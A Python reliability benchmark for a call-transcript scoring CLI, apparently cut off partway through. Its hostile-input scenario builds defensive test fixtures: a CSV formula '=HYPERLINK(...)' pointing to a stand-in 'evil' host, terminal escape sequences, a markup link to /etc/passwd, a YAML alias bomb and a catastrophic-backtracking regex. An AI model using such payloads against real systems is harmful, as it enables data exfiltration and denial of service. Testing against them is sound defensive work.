"""Reliability of batch scoring, proved with real runs of the ``callqa score`` command.

    python benchmarks/reliability.py                    # ~15-20 minutes on 2 shared cores
    python benchmarks/reliability.py --only d e --sizes 0.25 1 2
    python benchmarks/reliability.py --postgres postgresql://qa@localhost/callqa_bench  # (d) there too
    python benchmarks/reliability.py --transcripts 1000 --keep

Five scenarios, each on fresh temporary folders and SQLite files:

(a) broken files: corrupt, truncated, empty, non-audio, zero-length (a WAV header, no samples),
    an invalid and an empty transcript, unreadable (dangling symlinks, a folder named x.wav), and
    unicode names, among good transcripts and real recordings (Whisper runs: fresh cache).
    Every failure must be in the errors table with its message, every good file scored.
(b) SIGKILL half-way: the command (and its worker processes) is killed with kill -9 once half
    the files are stored (polling the database), then run again. Every file must end up stored
    exactly once, with all its transcript segments.
(c) two writers: two ``callqa score`` processes on one SQLite file at once, each with a folder of
    its own plus one folder both score. Both must finish with no "database is locked" error and
    no lost or duplicated rows.

(d) bad input (issue 16): one ``--redact`` batch holding 50-odd kinds of hostile or careless
    input (broken audio, hostile JSON, NaN and huge times, NUL bytes, control characters and
    rich markup in names and text, a FIFO and /dev/zero, symlink loops, over-long turns and
    files, sidecars with over-long or formula-like agent names, card numbers written five ways)
    beside good transcripts, then a few commands given bad options or rubrics. Per kind: the
    outcome (failed with the reason recorded, scored, or not an input) against what it should
    be; then tracebacks (0), rows lost (good or hostile-but-valid files not stored: 0), and
    leaks: raw card numbers anywhere in the database (every column of every table), in the
    export, or in what the commands printed (0). With ``--postgres URL`` the batch runs on that
    database as well (its tables are dropped first: give a scratch database).
(e) big transcripts: generated text transcripts of ``--sizes`` MB (default 0.25 1 2 5; the
    max-transcript-mb limit refuses > 50 MB) scored one per process, fresh database, the
    model and rubric caches warmed first: wall time and peak RSS (``ru_maxrss`` of the child),
    and the growth exponent k of time ~ size^k, fitted on the sizes >= 1 MB, on the wall time and
    on the wall time less that of a one-turn call (the start-up: models, rubric, heads).

The bulk of the inputs are transcripts (copies of samples/reference/*.json made distinct with an
extra field, so that each has its own content hash); a few are real recordings from
recordings_sample/. Figures: files given, scored, failed (recorded), failures not recorded,
duplicated calls (extra rows for one content hash, or a call whose segments do not match its
input), missing files, wall time.
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import math
import os
import random
import re
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
import wave
from dataclasses import dataclass
from pathlib import Path

from callqa.audio import content_hash

REPO = Path(__file__).resolve().parents[1]
REFERENCE = REPO / "samples" / "reference"
SAMPLES = REPO / "recordings_sample"


# ----------------------------------------------------------------------------- helpers

def write_transcripts(folder: Path, n: int, prefix: str = "call", start: int = 0) -> dict[Path, int]:
    refs = sorted(REFERENCE.glob("*.json"))
    folder.mkdir(parents=True, exist_ok=True)
    made = {}
    for i in range(start, start + n):
        data = json.loads(refs[i % len(refs)].read_text(encoding="utf-8"))
        data["batch_copy"] = f"{prefix}-{i}"
        path = folder / f"{prefix}_{i:05d}.json"
        path.write_text(json.dumps(data), encoding="utf-8")
        made[path] = len(data["segments"])
    return made


def env_for(cache: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k not in ("CALLQA_DB", "CALLQA_REDACT")}
    return env | {"CALLQA_CACHE_DIR": str(cache), "COLUMNS": "300"}


def command(*args: str | Path) -> list[str]:
    return [sys.executable, "-m", "callqa.cli", "score", *map(str, args), "--format", "json"]


def statuses(stdout: str) -> dict[str, int]:
    counts: dict[str, int] = {}
    for line in stdout.splitlines():
        if line.startswith("{"):
            status = json.loads(line)["status"]
            counts[status] = counts.get(status, 0) + 1
    return counts


def sql(db: Path, query: str) -> list[tuple]:
    with sqlite3.connect(db, timeout=60) as conn:
        return conn.execute(query).fetchall()


@dataclass
class Check:
    files: int
    stored: int
    missing: int
    duplicates: int  # extra rows per content hash + calls whose segments differ from the input


def check_stored(db: Path, expected: dict[Path, int | None]) -> Check:
    """Compare the database with the files that must be stored (segments: None = any > 0)."""
    rows = sql(db, "SELECT c.content_hash, COUNT(DISTINCT c.id), COUNT(s.id) FROM calls c "
                   "LEFT JOIN segments s ON s.call_id = c.id GROUP BY c.content_hash")
    stored = {h: (n, segs) for h, n, segs in rows}
    want = {content_hash(p): n for p, n in expected.items()}
    missing = sum(1 for h in want if h not in stored)
    duplicates = sum(n - 1 for n, _ in stored.values()) + sum(
        1 for h, n in want.items() if h in stored and (stored[h][1] != n if n is not None else stored[h][1] == 0))
    extra = sum(1 for h in stored if h not in want)
    return Check(len(want), len(stored), missing, duplicates + extra)


ROWS: list[tuple] = []


def row(scenario: str, files: int, scored: int, failed: int, unrecorded: int, duplicates: int, missing: int,
        wall: float, note: str = "") -> None:
    ROWS.append((scenario, files, scored, failed, unrecorded, duplicates, missing, wall, note))
    print(f"  {scenario}: files {files}, scored {scored}, failed {failed}, failures not recorded {unrecorded}, "
          f"duplicates {duplicates}, missing {missing}, {wall:.1f} s {note}", flush=True)


# ----------------------------------------------------------------------------- (a) broken files

def broken_files(root: Path, n_transcripts: int) -> bool:
    print("(a) a batch with broken files", flush=True)
    folder = root / "calls"
    good: dict[Path, int | None] = dict(write_transcripts(folder, n_transcripts))
    uni = folder / "Ünïcødé 通话"
    uni.mkdir()
    for src, dst in ((SAMPLES / "c10_alice_contact_update.ogg", uni / "Ünïcødé 通话 ☎.ogg"),
                     (SAMPLES / "c06_carmen_solar.mp3", folder / "c06 (mono).mp3"),
                     (SAMPLES / "c07_alice_payment_plan.flac", uni / "Ελληνικά – 8 kHz.flac")):
        shutil.copy(src, dst)
        good[dst] = None
    for i, ref in enumerate(sorted(REFERENCE.glob("*.json"))[:3]):
        data = json.loads(ref.read_text(encoding="utf-8")) | {"batch_copy": f"unicode-{i}"}
        path = uni / f"通话 {i} ☎ Ünïcødé.json"
        path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
        good[path] = len(data["segments"])

    broken: dict[Path, str] = {}
    (folder / "corrupt.wav").write_bytes(os.urandom(4096))
    broken[folder / "corrupt.wav"] = "corrupt (random bytes)"
    (folder / "truncated.ogg").write_bytes((SAMPLES / "c01_alice_double_charge.ogg").read_bytes()[:4000])
    broken[folder / "truncated.ogg"] = "truncated recording"
    (folder / "empty.mp3").write_bytes(b"")
    broken[folder / "empty.mp3"] = "empty (0 bytes)"
    (folder / "notes.mp3").write_text("not a recording\n")
    broken[folder / "notes.mp3"] = "non-audio"
    with wave.open(str(folder / "zero.wav"), "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(16000)
    broken[folder / "zero.wav"] = "zero-length (WAV header only)"
    (folder / "bad.json").write_text('{"segments": [\n')
    broken[folder / "bad.json"] = "invalid transcript JSON"
    (folder / "silent.json").write_text('{"segments": []}')
    broken[folder / "silent.json"] = "transcript without speech"
    (root / "dangling.ogg").symlink_to(root / "nowhere.ogg")
    broken[root / "dangling.ogg"] = "dangling symlink, named on the command line"
    (folder / "dangling-in-folder.ogg").symlink_to(root / "nowhere.ogg")
    broken[folder / "dangling-in-folder.ogg"] = "dangling symlink, inside the folder"
    (folder / "folder.wav").mkdir()  # a folder: walked like any folder, not an input
    if os.geteuid() != 0:
        locked = folder / "locked.wav"
        shutil.copy(SAMPLES / "c10_alice_contact_update.ogg", locked)
        locked.chmod(0)
        broken[locked] = "unreadable (mode 000)"

    db = root / "a.db"
    t = time.perf_counter()
    run = subprocess.run(command(folder, root / "dangling.ogg", folder / "folder.wav", "--db", db, "-j", "2"),
                         capture_output=True, text=True, env=env_for(root / "cache"))
    wall = time.perf_counter() - t
    errors = dict(sql(db, "SELECT file, message FROM errors"))
    print(f"  exit code {run.returncode} (2: some files failed); errors table:")
    for path, what in broken.items():
        message = errors.get(str(path))
        shown = (message or "").replace(f"{folder}/", "").replace(f"{root}/", "")
        print(f"    {what:<44} {'recorded    ' if message else 'NOT RECORDED'} {shown[:110]}")
    check = check_stored(db, good)
    counts = statuses(run.stdout)
    engines = sql(db, "SELECT engine, COUNT(*) FROM calls GROUP BY engine")
    print(f"  stored calls by engine: {dict(engines)}")
    unrecorded = sum(1 for p in broken if str(p) not in errors)
    row("(a) broken files", len(good) + len(broken), counts.get("scored", 0), len(errors), unrecorded,
        check.duplicates, check.missing, wall, "(3 recordings transcribed by Whisper)")
    return "Traceback" not in run.stderr and check.missing == check.duplicates == unrecorded == 0 and \
        set(errors) <= {str(p) for p in broken}


# ----------------------------------------------------------------------------- (b) SIGKILL

def killed_and_rerun(root: Path, n_transcripts: int) -> bool:
    print("(b) a batch killed with SIGKILL half-way, then run again", flush=True)
    folder = root / "calls"
    files: dict[Path, int | None] = dict(write_transcripts(folder, n_transcripts))
    for i, src in enumerate((SAMPLES / "c03_bob_moving_house.ogg", SAMPLES / "c09_carmen_missed_appointment.mp3")):
        dst = folder / f"call_{n_transcripts // 2 - 8 + i * 4:05d}{src.suffix}"  # in the middle of the batch
        shutil.copy(src, dst)
        files[dst] = None
    db = root / "b.db"
    cache = root / "cache"
    t = time.perf_counter()
    proc = subprocess.Popen(command(folder, "--db", db, "-j", "2"), stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, env=env_for(cache), start_new_session=True)
    stored = 0
    while stored < len(files) // 2:
        if proc.poll() is not None:
            print("  the batch ended before it could be killed: use more --transcripts")
            return False
        time.sleep(0.02)
        try:
            stored = sql(db, "SELECT COUNT(*) FROM calls")[0][0] if db.exists() else 0
        except sqlite3.OperationalError:
            stored = 0
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    first = time.perf_counter() - t
    at_kill = sql(db, "SELECT COUNT(*) FROM calls")[0][0]
    print(f"  killed with SIGKILL after {first:.1f} s: {at_kill} of {len(files)} calls stored "
          f"(exit {proc.returncode}); WAL left behind: {Path(str(db) + '-wal').exists()}")
    t = time.perf_counter()
    run = subprocess.run(command(folder, "--db", db, "-j", "2"), capture_output=True, text=True, env=env_for(cache))
    wall = time.perf_counter() - t
    counts = statuses(run.stdout)
    print(f"  rerun: exit {run.returncode}, {counts}")
    check = check_stored(db, files)
    errors = sql(db, "SELECT COUNT(*) FROM errors")[0][0]
    row("(b) killed + rerun", len(files), at_kill + counts.get("scored", 0), errors, 0, check.duplicates,
        check.missing, first + wall, f"(killed at {at_kill}, rerun scored {counts.get('scored', 0)}, "
                                     f"skipped {counts.get('skipped', 0)}; rerun {wall:.1f} s)")
    return run.returncode == 0 and check.missing == check.duplicates == errors == 0 and \
        counts.get("skipped", 0) == at_kill


# ----------------------------------------------------------------------------- (c) two writers

def two_writers(root: Path, n_own: int, n_shared: int) -> bool:
    print("(c) two batch processes writing to one SQLite file at once", flush=True)
    own_a = write_transcripts(root / "a", n_own, "a")
    own_b = write_transcripts(root / "b", n_own, "b")
    shared = write_transcripts(root / "shared", n_shared, "s")
    db = root / "c.db"
    t = time.perf_counter()
    procs = [subprocess.Popen(command(root / name, root / "shared", "--db", db, "-j", "1"), stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True, env=env_for(root / "cache"))
             for name in ("a", "b")]
    results = [p.communicate() for p in procs]
    wall = time.perf_counter() - t
    locked = sum((out + err).lower().count("database is locked") for out, err in results)
    for name, p, (out, _) in zip("ab", procs, results):
        print(f"  process {name}: exit {p.returncode}, {statuses(out)}")
    order = [Path(f).parent.name for (f,) in sql(db, "SELECT file FROM calls ORDER BY id")]
    order = [x for x in order if x != "shared"]
    switches = sum(1 for x, y in zip(order, order[1:]) if x != y)
    print(f"  'database is locked' messages: {locked}; a/b calls interleave {switches} times in insertion order")
    check = check_stored(db, own_a | own_b | shared)
    errors = sql(db, "SELECT COUNT(*) FROM errors")[0][0]
    scored = sum(statuses(out).get("scored", 0) for out, _ in results)
    row("(c) two writers", check.files, scored, errors, 0, check.duplicates, check.missing, wall,
        f"(of the {n_shared} shared files, {max(0, scored - check.files)} were scored by both processes, "
        f"the others skipped by the later one; {locked} lock errors)")
    return all(p.returncode == 0 for p in procs) and locked == errors == check.missing == check.duplicates == 0


# ----------------------------------------------------------------------------- (d) bad input

#: a card number written five ways (ASCII and Unicode hyphens, slashes, spaces, none) and an SSN
CARDS = ["4111 1111 1111 1111", "4111-1111-1111-1111", "4111\u20101111\u20101111\u20101111", "4111/1111/1111/1111",
         "4111111111111111"]
#: a raw card number, however its groups are joined: what must not be stored or shown
RAW_CARD = re.compile(r"4111[^0-9A-Za-z\[]{0,3}1111[^0-9A-Za-z\[]{0,3}1111[^0-9A-Za-z\[]{0,3}1111")
GOOD_TEXT = "Agent: Thank you for calling, my name is Sam. How can I help?\nCustomer: My bill is wrong.\n" \
            "Agent: I'm sorry about that, let me fix it for you now.\nCustomer: Thanks.\n"


@dataclass
class Kind:
    what: str
    path: Path | None  # the input (None: a command of its own)
    expect: str  # "fail", "score", "either" (a failure with a reason or a score), "none" (not an input)
    outcome: str = ""
    holds: bool = False


def bad_inputs(folder: Path, root: Path) -> tuple[list[Kind], list[Path]]:
    """The hostile files of one batch (and the paths to name on its command line)."""
    kinds: list[Kind] = []
    folder.mkdir(parents=True)

    def add(name: str, what: str, expect: str, data: bytes | str | None = None) -> Path:
        path = folder / name
        if data is not None:
            path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
        kinds.append(Kind(what, path, expect))
        return path

    def segments(*segs: dict, **extra: object) -> str:
        return json.dumps({"segments": list(segs), **extra})

    rng = random.Random(16)
    ogg = (SAMPLES / "c01_alice_double_charge.ogg").read_bytes()
    add("corrupt.wav", "audio: random bytes", "fail", rng.randbytes(4096))
    add("truncated.ogg", "audio: truncated", "fail", ogg[:4000])
    add("empty.mp3", "audio: 0 bytes", "fail", b"")
    add("notes.mp3", "audio: text named .mp3", "fail", "not a recording\n")
    with wave.open(str(add("zero.wav", "audio: WAV header, no samples", "fail")), "wb") as w:
        w.setnchannels(1), w.setsampwidth(2), w.setframerate(16000)
    add("fake.json", "transcript: a recording named .json", "fail", ogg[:20000])
    add("audio.txt", "transcript: a recording named .txt", "fail", ogg[:20001])
    add("gzipped.json", "transcript: gzip named .json", "fail", gzip.compress(segments(
        {"speaker": "Agent", "start": 0, "end": 1, "text": "hi"}).encode()))
    add("bad.json", "JSON: invalid", "fail", '{"segments": [\n')
    add("silent.json", "JSON: no segments", "fail", segments())
    add("list.json", "JSON: a list at the top", "fail", "[1, 2, 3]")
    add("segments-dict.json", "JSON: segments not a list", "fail", '{"segments": {"a": 1}}')
    add("no-text.json", "JSON: a segment without text", "either", segments({"speaker": "Agent", "start": 0, "end": 1}))
    add("text-number.json", "JSON: text is a number", "either", segments({"speaker": "Agent", "start": 0, "end": 1, "text": 42}))
    add("nan.json", "JSON: NaN times", "fail", '{"segments": [{"speaker": "Agent", "start": NaN, "end": 1, "text": "hi"}]}')
    add("inf.json", "JSON: Infinity times", "fail",
        '{"segments": [{"speaker": "Agent", "start": 0, "end": Infinity, "text": "hi"}]}')
    add("negative.json", "JSON: negative and backwards times", "either",
        segments({"speaker": "Agent", "start": -5, "end": -9, "text": "Hello, how can I help?"},
                 {"speaker": "Customer", "start": 3, "end": 1, "text": "My bill."}))
    add("1e21.json", "JSON: a time of 1e21 s", "fail",
        segments({"speaker": "Agent", "start": 0, "end": 1e21, "text": "Hello, how can I help?"}))
    add("deep.json", "JSON: nested 100,000 deep", "fail", "[" * 100_000 + "]" * 100_000)
    add("unknown-speaker.json", "JSON: speakers no role fits", "either",
        segments({"speaker": "Zork", "start": 0, "end": 1, "text": "hi"}, {"speaker": "Blorp", "start": 1, "end": 2, "text": "yo"}))
    add("nul.txt", "text: NUL bytes", "score", GOOD_TEXT.replace("wrong", "wrong\0") + "Agent: \0\0 One moment.\n")
    add("no-prefix.txt", "text: no speaker prefix, quoting a card", "fail", f"my card is {CARDS[0]}\n")
    add("blank.txt", "text: only blank lines", "fail", "\n \n\t\n")
    add("binary.txt", "text: random bytes", "fail", rng.randbytes(3000))
    add("latin1.txt", "text: not UTF-8 (Latin-1)", "either", "Agent: Gr\xfc\xdfe, how can I help?\nCustomer: Caf\xe9.\n".encode("latin-1"))
    add("utf16.txt", "text: UTF-16 with a BOM", "either", GOOD_TEXT.encode("utf-16"))
    add("only-customer.txt", "text: only the customer speaks", "either", "Customer: Hello? Hello?\n")
    add("control.txt", "text: terminal control characters", "score",
        "Agent: \x1b[2J\x1b[31mHello\x07, how can I help?\nCustomer: \x1b]0;pwned\x07My bill is wrong.\n"
        "Agent: I'm sorry about that\x1b[0m, let me fix it.\n")
    add("markup-text.txt", "text: rich markup [/bold] in the words", "score",
        "Agent: [/bold][reverse]Hello[/], how can I help?\nCustomer: [link=file:///etc/passwd]bill[/link]\n")
    add("huge-turn.txt", "text: one turn over 1,000,000 characters", "fail", "Agent: " + "la " * 350_000 + "\n")
    add("oversize.txt", "text: over --max-transcript-mb (2)", "fail", ("Agent: hello there. " * 110_000) + "\n")
    add("no-speaker.vtt", "VTT: cues without a speaker", "fail", "WEBVTT\n\n00:00.000 --> 00:01.000\nhello\n")
    add("bad-time.srt", "SRT: a broken timestamp", "fail", "1\n00:00:xx,000 --> 00:00:01,000\nAgent: hi\n")
    add("cards.txt", "text: a card number written five ways, an SSN", "score",
        GOOD_TEXT + "".join(f"Customer: my card is {c}, thanks\nAgent: Thank you, I'll take care of that.\n"
                            for c in CARDS)
        + "Customer: and my social is 078-05-1120\n")
    add("[bold]x[reverse]FAKE[.txt", "name: rich markup [reverse]", "score", GOOD_TEXT)
    add("line\nbreak.txt", "name: a newline", "score", GOOD_TEXT + "Agent: One.\n")
    add("\x1b[31mred\x1b[0m.txt", "name: terminal escapes", "score", GOOD_TEXT + "Agent: Two.\n")
    add("n" * 240 + ".txt", "name: 244 bytes", "score", GOOD_TEXT + "Agent: Three.\n")
    add("Ünïcødé 通话 ☎.txt", "name: unicode", "score", GOOD_TEXT + "Agent: Four.\n")
    add("$\\foo{$ mathtext.txt", "name: matplotlib mathtext", "score", GOOD_TEXT + "Agent: Five.\n")
    add("same-a.txt", "content: a copy of another file (same hash)", "either", GOOD_TEXT + "Agent: Six.\n")
    add("same-b.txt", "content: a copy of another file (same hash)", "either", GOOD_TEXT + "Agent: Six.\n")
    # sidecars in folders of their own: a calls.csv that cannot be read fails every file beside it
    side = folder / "sidecar"
    side.mkdir()
    add("sidecar/long-agent.txt", "sidecar: an agent name of 300 characters", "fail", GOOD_TEXT + "Agent: Seven.\n")
    add("sidecar/formula-agent.txt", "sidecar: an agent name '=HYPERLINK(...)'", "score", GOOD_TEXT + "Agent: Eight.\n")
    add("sidecar/mathtext-agent.txt", "sidecar: an agent name '$\\foo{$ [/x]'", "score", GOOD_TEXT + "Agent: Nine.\n")
    (side / "calls.csv").write_text(
        "file,agent,date\n"
        f"long-agent.txt,{'x' * 300},2026-01-02\n"
        'formula-agent.txt,"=HYPERLINK(""http://evil/?""&A1)",2026-01-02\n'
        "mathtext-agent.txt,$\\foo{$ [/x],2026-01-02\n", encoding="utf-8")
    (folder / "dated").mkdir()
    add("dated/bad-date.txt", "sidecar: a date that is no date", "fail", GOOD_TEXT + "Agent: Ten.\n")
    (folder / "dated" / "calls.csv").write_text("file,agent,date\nbad-date.txt,alice,2026-13-45\n", encoding="utf-8")
    os.symlink(root / "nowhere.ogg", folder / "dangling.ogg")
    kinds.append(Kind("symlink: dangling, inside the folder", folder / "dangling.ogg", "fail"))
    os.symlink(".", folder / "loop")
    kinds.append(Kind("symlink: a loop back to the folder", folder / "loop", "none"))
    (folder / "folder.wav").mkdir()
    kinds.append(Kind("a folder named .wav", folder / "folder.wav", "none"))
    (folder / "notes.pdf").write_bytes(b"%PDF-1.4\n")
    kinds.append(Kind("a file of no known kind (.pdf)", folder / "notes.pdf", "none"))
    if os.geteuid() != 0:
        locked = add("locked.txt", "unreadable (mode 000)", "fail", GOOD_TEXT)
        locked.chmod(0)
    named: list[Path] = []
    fifo = root / "pipe.txt"
    os.mkfifo(fifo)
    kinds.append(Kind("a named pipe (FIFO), named on the command line", fifo, "fail"))
    kinds.append(Kind("/dev/zero, named on the command line", Path("/dev/zero"), "fail"))
    (root / "dangling.json").symlink_to(root / "nowhere.json")
    kinds.append(Kind("symlink: dangling, named on the command line", root / "dangling.json", "fail"))
    named += [fifo, Path("/dev/zero"), root / "dangling.json"]
    return kinds, named


def _all_text(url: str) -> str:
    """Every value of every column of every table, as text (SQLite and PostgreSQL alike)."""
    from sqlalchemy import MetaData, create_engine, select

    engine = create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    meta = MetaData()
    meta.reflect(engine)
    with engine.connect() as conn:
        text = "\n".join(str(value) for table in meta.sorted_tables
                         for row in conn.execute(select(table)) for value in row)
    engine.dispose()
    return text


def _rows(url: str, query: str) -> list[tuple]:
    from sqlalchemy import create_engine, text

    engine = create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    with engine.connect() as conn:
        rows = [tuple(r) for r in conn.execute(text(query))]
    engine.dispose()
    return rows


def _reset_postgres(url: str) -> None:
    from sqlalchemy import create_engine, text

    engine = create_engine(url.replace("postgresql://", "postgresql+psycopg://", 1))
    with engine.begin() as conn:
        conn.execute(text("DROP SCHEMA public CASCADE"))
        conn.execute(text("CREATE SCHEMA public"))
    engine.dispose()


def run_cli(*args: str | Path, env: dict[str, str], timeout: float = 600) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "callqa.cli", *map(str, args)], capture_output=True, text=True,
                          env=env, timeout=timeout)


def bad_input(root: Path, postgres: str | None) -> bool:
    print("(d) bad input: one --redact batch of hostile files, then commands given bad options", flush=True)
    folder = root / "bad"
    kinds, named = bad_inputs(folder, root)
    good = write_transcripts(root / "good", 20)
    env = env_for(root / "cache")
    ok = True
    printed = ""
    for name, url in (("SQLite", f"sqlite:///{root / 'd.db'}"), ("PostgreSQL", postgres)):
        if url is None:
            continue
        if name == "PostgreSQL":
            _reset_postgres(url)
        t = time.perf_counter()
        run = run_cli("score", folder, root / "good", *named, "--db", url, "--redact", "--max-transcript-mb", "2",
                      "--format", "json", "-j", "2", env=env)
        wall = time.perf_counter() - t
        printed += run.stdout + run.stderr
        errors = dict(_rows(url, "SELECT file, message FROM errors"))
        calls = {f for (f,) in _rows(url, "SELECT file FROM calls")}
        print(f"  {name}: exit {run.returncode} in {wall:.0f} s, {len(calls)} calls stored, {len(errors)} errors recorded")
        for kind in kinds:
            p = str(kind.path)
            if p in errors:
                kind.outcome = "failed: " + " ".join(errors[p].replace(f"{folder}/", "").replace(f"{root}/", "").split())
                got = "fail"
            elif p in calls:
                kind.outcome, got = "scored", "score"
            else:
                kind.outcome, got = "not an input (not stored, no error)", "none"
            kind.holds = got == kind.expect or (kind.expect == "either" and got in ("fail", "score"))
        # a copy of another file is scored once: either copy may hold the call
        same = [k for k in kinds if k.what.startswith("content: a copy")]
        if sum(k.outcome == "scored" for k in same) == 1:
            for k in same:
                k.holds = True
        lost = [p for p in good if str(p) not in calls] + [k.path for k in kinds if k.expect == "score"
                                                             and str(k.path) not in calls]
        export = run_cli("export", "--db", url, "--format", "csv", env=env)
        export_json = run_cli("export", "--db", url, "--format", "json", env=env)
        printed += export.stderr + export_json.stderr
        stored = _all_text(url)
        cards_file = (folder / "cards.txt").read_text(encoding="utf-8")
        assert len(RAW_CARD.findall(cards_file)) == len(CARDS), "the leak check must see every raw card"
        leaks = {"database": len(RAW_CARD.findall(stored)),
                 "export": len(RAW_CARD.findall(export.stdout + export_json.stdout)),
                 "printed": len(RAW_CARD.findall(run.stdout + run.stderr))}
        formula = sum(1 for row in csv.reader(io.StringIO(export.stdout)) for cell in row if cell[:1] in ("=", "+", "@"))
        tracebacks = printed.count("Traceback")
        print(f"\n  {'kind of bad input':<52} {'should':<7} {'holds':<6} outcome ({name})")
        for kind in kinds:
            print(f"  {kind.what:<52} {kind.expect:<7} {'yes' if kind.holds else 'NO':<6} {kind.outcome[:120]}")
        print(f"  good transcripts beside them: {len(good)}, all stored: {all(str(p) in calls for p in good)}")
        print(f"  rows lost: {len(lost)} {[str(p) for p in lost][:3]}; raw card numbers: {leaks}; CSV cells "
              f"starting =+@: {formula}; tracebacks: {tracebacks}")
        ok &= run.returncode == 2 and not lost and not any(leaks.values()) and not tracebacks and \
            all(k.holds for k in kinds) and formula == 0
        BAD_ROWS.append((name, len(kinds), sum(k.holds for k in kinds), len(lost), sum(leaks.values()), tracebacks))
    ok &= bad_commands(root, env, kinds)
    return ok


def bad_commands(root: Path, env: dict[str, str], kinds: list[Kind]) -> bool:
    """Commands given a bad option, rubric or database: each must end with a reason (exit 1 or 2,
    no traceback) or work, in bounded time."""
    db = root / "cmd.db"
    good = root / "good" / "call_00000.json"
    bomb = root / "bomb.yaml"
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f'{chr(98 + i)}: &{chr(98 + i)} [{",".join(["*" + chr(97 + i)] * 9)}]' for i in range(8)]
    bomb.write_text("\n".join(lines) + "\n")
    import yaml

    import callqa.rubric

    hang = root / "hang.yaml"
    doc = yaml.safe_load((Path(callqa.rubric.__file__).parent / "default.yaml").read_text(encoding="utf-8"))
    doc["criteria"][0]["check"] = {"type": "phrase", "mode": "forbidden", "phrases": ["zzz"], "regex": ["(a|a)+$"]}
    hang.write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
    aaa = root / "aaa.txt"
    aaa.write_text("Agent: " + "a" * 40 + "b\nCustomer: hi\n")
    commands = [
        ("--name-pattern '{agent}_{agent}'", ["score", good, "--db", db, "--name-pattern", "{agent}_{agent}"], (2,)),
        ("export -o into a missing folder", ["export", "--db", db, "-o", root / "missing" / "x.csv"], (2,)),
        ("rubric check on a YAML alias bomb", ["rubric", "check", bomb], (1, 2)),
        ("a rubric regex (a|a)+$ on 'a' * 40 + 'b'", ["score", aaa, "--db", db, "--rubric", hang], (2,)),
        ("--db with an unencoded '@' in the password",
         ["agents", "--db", "postgresql://qa:s3cr3t@T4il@127.0.0.1:1/callqa"], (2,)),
        ("--agent '[/bad]', then agents", ["score", good, "--db", db, "--agent", "[/bad]"], (0,)),
        ("agents after it", ["agents", "--db", db], (0,)),
        ("-j 40 on one file", ["score", root / "good" / "call_00001.json", "--db", db, "-j", "40"], (0,)),
        ("score an empty folder", ["score", root / "empty-folder", "--db", db], (2,)),
        ("--max-call-minutes 0", ["score", good, "--db", db, "--max-call-minutes", "0"], (2,)),
    ]
    (root / "empty-folder").mkdir()
    ok = True
    print("\n  commands given bad input:")
    for what, args, exits in commands:
        t = time.perf_counter()
        run = run_cli(*args, env=env, timeout=300)
        wall = time.perf_counter() - t
        out = run.stdout + run.stderr
        holds = run.returncode in exits and "Traceback" not in out and "s3cr3t" not in out and "T4il" not in out
        last = " ".join((run.stderr.strip() or run.stdout.strip()).splitlines()[-1:])[:100] if out.strip() else ""
        print(f"  {what:<52} exit {run.returncode} {'yes' if holds else 'NO ':<4} {wall:5.1f} s  {last}")
        kinds.append(Kind(what, None, "fail" if exits != (0,) else "score",
                          f"exit {run.returncode}: {last}", holds))
        ok &= holds
    return ok


BAD_ROWS: list[tuple] = []


# ----------------------------------------------------------------------------- (e) big transcripts

def big_transcript(path: Path, mb: float, seed: int = 0) -> int:
    """A text transcript of ``mb`` MB: agent and customer turns from benchmarks/score.py's
    templates (names, amounts and days drawn at random), a card number every 50th customer turn."""
    sys.path.insert(0, str(Path(__file__).parent))
    from score import AGENT, CUSTOMER, DAYS, FILL, FIRST, NAMES

    rng = random.Random(seed)
    out, size, k = [], 0, 0
    while size < mb * 1_000_000:
        pool = AGENT if k % 2 == 0 else CUSTOMER
        text = rng.choice(FILL) + pool[rng.randrange(len(pool))].format(
            first=rng.choice(FIRST), name=rng.choice(NAMES), hon=rng.choice(["Mr.", "Mrs.", "Ms."]),
            amount=rng.randint(10, 400), n=rng.randint(2, 60), day=rng.choice(DAYS),
            day_n=rng.choice(["second", "third", "tenth", "fifteenth"]))
        if k % 100 == 1:
            text += f" My card is {CARDS[k // 100 % len(CARDS)]}."
        line = f"{'Agent' if k % 2 == 0 else 'Customer'}: {text}\n"
        out.append(line)
        size += len(line.encode("utf-8"))
        k += 1
    path.write_text("".join(out), encoding="utf-8")
    return k


def _score_measured(path: Path, root: Path, cache: Path, tag: str) -> tuple[float, float, float, int, str]:
    """``callqa score PATH --redact`` in a child of a fresh Python: wall and CPU seconds (user +
    system: what a shared machine's other jobs change least), peak RSS in MB, exit code, stderr."""
    db = root / f"{tag}.db"
    work = root / f"cache-{tag}"
    shutil.copytree(cache, work)
    code = ("import resource, subprocess, sys, time; t = time.perf_counter(); "
            "r = subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True); "
            "w = time.perf_counter() - t; "
            "u = resource.getrusage(resource.RUSAGE_CHILDREN); "
            "print(w, u.ru_utime + u.ru_stime, u.ru_maxrss, r.returncode); "
            "sys.stderr.write(r.stderr)")
    run = subprocess.run([sys.executable, "-c", code, sys.executable, "-m", "callqa.cli", "score", str(path),
                          "--db", str(db), "--redact", "--max-call-minutes", "100000000", "-j", "1"],
                         capture_output=True, text=True, env=env_for(work))
    wall, cpu, rss_kb, rc = run.stdout.split()
    shutil.rmtree(work, ignore_errors=True)
    return float(wall), float(cpu), int(rss_kb) / 1024, int(rc), run.stderr


def _exponent(xs: list[float], ys: list[float]) -> float:
    """Least-squares slope of log y on log x."""
    lx, ly = [math.log(x) for x in xs], [math.log(max(y, 1e-6)) for y in ys]
    mx, my = sum(lx) / len(lx), sum(ly) / len(ly)
    return sum((a - mx) * (b - my) for a, b in zip(lx, ly)) / sum((a - mx) ** 2 for a in lx)


def big_transcripts(root: Path, sizes: list[float]) -> bool:
    print(f"(e) big transcripts: callqa score --redact on generated text transcripts of {sizes} MB", flush=True)
